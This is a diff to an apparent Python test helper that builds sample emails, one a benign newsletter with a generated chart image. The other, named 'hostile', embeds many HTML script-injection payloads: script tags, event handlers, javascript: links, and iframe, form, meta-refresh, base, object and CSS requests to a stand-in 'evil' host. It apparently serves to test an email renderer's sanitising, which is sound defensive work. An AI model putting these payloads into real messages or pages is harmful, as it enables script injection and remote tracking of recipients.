@@ -9,14 +9,18 @@ from email.message import EmailMessage
 
 
 def picture(width: int = 320, height: int = 90) -> bytes:
-    """A PNG: stripes in two blues, enough to be seen as a picture."""
+    """A PNG: bars of growing height, as a chart of frame sizes has them."""
 
     def chunk(kind: bytes, content: bytes) -> bytes:
         return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
 
-    line = b"".join(b"\x2f\x4f\x9e" if (x // 16) % 2 else b"\x9d\xb7\xff" for x in range(width))
+    def line(y: int) -> bytes:
+        bar = width // 8
+        inked = (x % bar < bar * 2 // 3 and height - y < height * (x // bar + 2) // 10 for x in range(width))
+        return b"\0" + b"".join(b"\x2f\x4f\x9e" if ink else b"\xe7\xec\xf8" for ink in inked)
+
     head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress((b"\0" + line) * height)) + chunk(b"IEND", b"")
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"".join(map(line, range(height))))) + chunk(b"IEND", b"")
 
 
 def designed(sender: str, to: str, subject: str, *, remote: str) -> bytes:
@@ -30,7 +34,7 @@ def designed(sender: str, to: str, subject: str, *, remote: str) -> bytes:
         <table border="0" cellpadding="8" style="border-collapse:collapse"><tr style="background:#e7ecf8"><th align="left">Article</th><th>Pieces</th></tr>
         <tr><td>City bike, 54 cm</td><td align="center">3</td></tr><tr><td>Helmet, medium</td><td align="center">5</td></tr></table>
         <p><img src="cid:{ident[1:-1]}" alt="Frame sizes" width="320" height="90"></p>
-        <p><img src="{remote}" alt="Club badge" width="60" height="60"></p><p>Kind regards<br>The club</p></div>""",
+        <p><img src="{remote}" alt="Club badge" width="60" height="60"></p><p>Kind regards<br>Ada</p></div>""",
         subtype="html",
     )
     mail.get_payload()[1].add_related(picture(), "image", "png", cid=ident, filename="sizes.png")  # type: ignore[union-attr, index]
@@ -42,9 +46,9 @@ def hostile(sender: str, to: str, subject: str, *, evil: str) -> bytes:
     mail = _head(sender, to, subject)
     mail.set_content("Dear victim")
     mail.add_alternative(
-        f"""<p id="shown">Dear victim</p><script>top.pwned=1;fetch('{evil}/1')</script><img src="x" onerror="top.pwned=2">
+        f"""<p id="shown">Dear victim, <a href="javascript:top.pwned=6">press me</a> <a href="&#106;avascript:top.pwned=7">or me</a></p><script>top.pwned=1;fetch('{evil}/1')</script><img src="x" onerror="top.pwned=2">
         <svg onload="top.pwned=3"><script>top.pwned=4</script></svg><svg><animate onbegin="top.pwned=5" attributeName="x" dur="1s"/></svg>
-        <a href="javascript:top.pwned=6">press me</a> <a href="&#106;avascript:top.pwned=7">or me</a><iframe src="{evil}/2"></iframe>
+        <iframe src="{evil}/2"></iframe>
         <form action="{evil}/3"><button>Send</button></form><meta http-equiv="refresh" content="0;url={evil}/4">
         <base href="{evil}/"><object data="{evil}/5"></object><style>@import url("{evil}/6");body{{background:url({evil}/7)}}</style>""",
         subtype="html",
